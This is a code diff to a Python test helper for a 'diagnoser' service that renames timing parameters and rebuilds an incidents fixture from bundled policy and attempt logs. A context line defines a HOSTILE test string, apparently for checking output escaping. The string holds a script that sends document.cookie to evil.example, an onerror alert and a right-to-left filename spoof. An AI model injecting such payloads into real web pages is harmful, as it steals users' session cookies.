@@ -13,8 +13,7 @@ from prometheus_client import CollectorRegistry
 from diagnoser.adapters.files import bundled, text
 from diagnoser.adapters.memory import LocalWakeSignal
 from diagnoser.adapters.sql.store import SqlStore, open_store
-from diagnoser.config.loader import load_reader
-from diagnoser.config.settings import Settings
+from diagnoser.diagnosis.attempt_logs import AttemptLogs
 from diagnoser.ingest import RecordDefaults
 from diagnoser.ingest.service import IngestReceipt
 from diagnoser.model import (
@@ -53,7 +52,7 @@ NOW = 1_790_000_000.0
 HOSTILE = (
     "<script>fetch('//evil.example/'+document.cookie)</script> \x1b[31mred \u202etxt.exe <img src=x onerror=alert(1)>"
 )
-TIMING = Timing(grace=0.0, settle=0.0, settle_max=0.0, quiet=0.0)
+TIMING = Timing(exit_grace=0.0, fatal_debounce=0.0, fatal_debounce_max=0.0, exit_grace_after_fatal=0.0)
 
 
 @dataclass
@@ -131,8 +130,8 @@ def services(store: SqlStore, ingest: FakeIngest, **more: object) -> AppDependen
 
 def incidents(store: SqlStore) -> Incidents:
     """What people said, over the bundled policy and logs read as the service reads them."""
-    reader = load_reader(Settings())
-    return Incidents(store, reader.evidence, reader.knowledge.policy, Metrics(CollectorRegistry()))
+    policy = load("policy.yaml", text(bundled("rules") / "policy.yaml"))
+    return Incidents(store, AttemptLogs(store), policy, Metrics(CollectorRegistry()))
 
 
 def plan_commands(**more: object) -> PlanCommands:
